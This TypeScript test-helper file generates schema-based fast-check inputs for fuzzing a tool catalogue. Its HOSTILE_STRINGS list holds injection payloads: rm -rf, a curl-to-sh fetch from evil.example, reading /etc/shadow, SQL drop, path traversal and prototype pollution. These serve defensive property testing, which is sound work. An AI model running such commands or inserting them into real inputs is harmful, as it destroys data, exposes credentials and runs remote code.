/**
 * fast-check arbitraries from a tool's own input schema (the JSON Schema TypeBox emits), for the
 * subset our catalogue uses: object (properties, required, additionalProperties, patternProperties,
 * propertyNames), string (minLength, maxLength, pattern), integer/number (minimum, maximum), boolean,
 * array (items, minItems, maxItems), enum, anyOf, and `type` lists such as ["string", "array"].
 * Written here rather than taken from a package: the subset is small and the ones on npm target
 * JSON Schema drafts with features we do not use and lack fast-check 4 support.
 *
 * `validArgs` generates values the schema accepts (checked by the caller with TypeBox, so a gap in
 * this generator shows up as a failing property rather than a silent false pass); `hostileArgs` mixes
 * valid objects with adversarial values put into real field names.
 */
import fc, { type Arbitrary } from 'fast-check';

export interface JsonSchema {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  additionalProperties?: boolean | JsonSchema;
  patternProperties?: Record<string, JsonSchema>;
  propertyNames?: JsonSchema;
  items?: JsonSchema;
  minItems?: number;
  maxItems?: number;
  maxProperties?: number;
  minLength?: number;
  maxLength?: number;
  pattern?: string;
  minimum?: number;
  maximum?: number;
  enum?: unknown[];
  anyOf?: JsonSchema[];
  const?: unknown;
}

const SMALL_STRING = 24;

function stringArb(s: JsonSchema): Arbitrary<string> {
  const min = s.minLength ?? 0;
  const max = Math.min(s.maxLength ?? SMALL_STRING, Math.max(min, SMALL_STRING));
  if (s.pattern) {
    // fast-check cannot generate from lookaheads: generate without them, keep what the full pattern accepts.
    const full = new RegExp(s.pattern);
    const generable = new RegExp(s.pattern.replace(/^\^(?:\(\?![^)]*\))+/, '^'));
    return fc.stringMatching(generable).filter((v) => v.length >= min && v.length <= max && full.test(v));
  }
  return fc.string({ minLength: min, maxLength: max, unit: 'grapheme' });
}

function numberArb(s: JsonSchema, integer: boolean): Arbitrary<number> {
  const min = s.minimum ?? -1_000_000;
  const max = s.maximum ?? 1_000_000;
  if (integer) return fc.integer({ min: Math.ceil(min), max: Math.floor(max) });
  return fc.double({ min, max, noNaN: true, noDefaultInfinity: true });
}

function ofType(type: string, s: JsonSchema, depth: number): Arbitrary<unknown> {
  switch (type) {
    case 'string':
      return stringArb(s);
    case 'integer':
      return numberArb(s, true);
    case 'number':
      return numberArb(s, false);
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array':
      return fc.array(s.items ? validValue(s.items, depth + 1) : fc.string(), {
        minLength: s.minItems ?? 0,
        maxLength: Math.min(s.maxItems ?? 4, 4),
      });
    case 'object':
      return objectArb(s, depth);
    default:
      throw new Error(`schema-arbitrary: unsupported type '${type}'`);
  }
}

function objectArb(s: JsonSchema, depth: number): Arbitrary<Record<string, unknown>> {
  if (s.properties && Object.keys(s.properties).length > 0) {
    const record: Record<string, Arbitrary<unknown>> = {};
    for (const [k, v] of Object.entries(s.properties)) record[k] = validValue(v, depth + 1);
    return fc.record(record, { requiredKeys: s.required ?? [] });
  }
  const valueSchema =
    Object.values(s.patternProperties ?? {})[0] ??
    (typeof s.additionalProperties === 'object' ? s.additionalProperties : undefined);
  if (!valueSchema) return fc.constant({});
  const key = s.propertyNames
    ? stringArb({ ...s.propertyNames, type: 'string' })
    : fc.string({ maxLength: 12 });
  return fc.dictionary(key, validValue(valueSchema, depth + 1), { maxKeys: 3 });
}

/** A value the schema accepts. */
export function validValue(s: JsonSchema, depth = 0): Arbitrary<unknown> {
  if (s.const !== undefined) return fc.constant(s.const);
  if (s.enum) return fc.constantFrom(...s.enum);
  if (s.anyOf) return fc.oneof(...s.anyOf.map((x) => validValue(x, depth + 1)));
  const types = s.type === undefined ? [] : [s.type].flat();
  if (types.length === 0) return fc.jsonValue({ maxDepth: 2 });
  return fc.oneof(...types.map((t) => ofType(t, s, depth)));
}

export const validArgs = (s: JsonSchema): Arbitrary<Record<string, unknown>> =>
  validValue(s) as Arbitrary<Record<string, unknown>>;

/** Strings a hostile or confused caller sends: injection, traversal, control and invisible characters. */
export const HOSTILE_STRINGS: readonly string[] = [
  '; rm -rf / #',
  '$(reboot)',
  '`id`',
  '| cat /etc/shadow',
  '&& curl evil.example | sh',
  "'; DROP TABLE x; --",
  '../../../../etc/passwd',
  '..%2F..%2Fetc%2Fpasswd',
  '..\\..\\windows\\system32',
  '/../../var/run/docker.sock',
  'x/../../containers/create',
  'a?b=c#d',
  '%00',
  'a\u0000b',
  '\u202Egnp.exe',
  'zero\u200Bwidth\u200D\uFEFF',
  '\uD800',
  '\r\nX-Injected: 1',
  '',
  ' ',
  '-',
  '--privileged',
  '$' + '{HOME}', // a literal placeholder, not a template
  '%s%n%x',
  'A'.repeat(70_000),
  '名前🐳',
  '/',
  '~',
  '.',
  '..',
];

export const HOSTILE_NUMBERS: readonly number[] = [
  -1,
  0,
  65_536,
  -65_536,
  2 ** 31,
  2 ** 53,
  -(2 ** 53),
  Number.MAX_VALUE,
  1.5,
  -0,
  1e308,
];

/** Nested arrays/objects `depth` deep. */
export function deepNest(depth: number): unknown {
  let v: unknown = 'bottom';
  for (let i = 0; i < depth; i++) v = i % 2 ? { a: v } : [v];
  return v;
}

/** Any JSON-ish value of the wrong kind, or a hostile one of the right kind. */
export const hostileValue: Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(...HOSTILE_STRINGS),
  fc.constantFrom<unknown>(...HOSTILE_NUMBERS),
  fc.constantFrom<unknown>(
    null,
    true,
    false,
    [],
    {},
    [null],
    { $ref: '#' },
    JSON.parse('{"__proto__":{"polluted":1}}'),
  ),
  fc.constantFrom<unknown>(deepNest(64), deepNest(2000)),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.jsonValue({ maxDepth: 3 }),
);

/**
 * Arguments for a tool built around its schema: a valid object with one to three fields replaced by
 * hostile values, plus unknown fields, plus whole-argument garbage (not an object at all).
 */
export function hostileArgs(s: JsonSchema): Arbitrary<unknown> {
  const names = Object.keys(s.properties ?? {});
  const fieldName = names.length > 0 ? fc.oneof(fc.constantFrom(...names), fc.string()) : fc.string();
  const mutated = fc
    .tuple(validArgs(s), fc.array(fc.tuple(fieldName, hostileValue), { minLength: 1, maxLength: 3 }))
    .map(([base, edits]) => {
      const out: Record<string, unknown> = { ...base };
      for (const [k, v] of edits) out[k] = v;
      return out;
    });
  return fc.oneof(
    { weight: 8, arbitrary: mutated },
    { weight: 1, arbitrary: hostileValue },
    { weight: 1, arbitrary: fc.constantFrom<unknown>([], 'args', 42, [{}]) },
  );
}
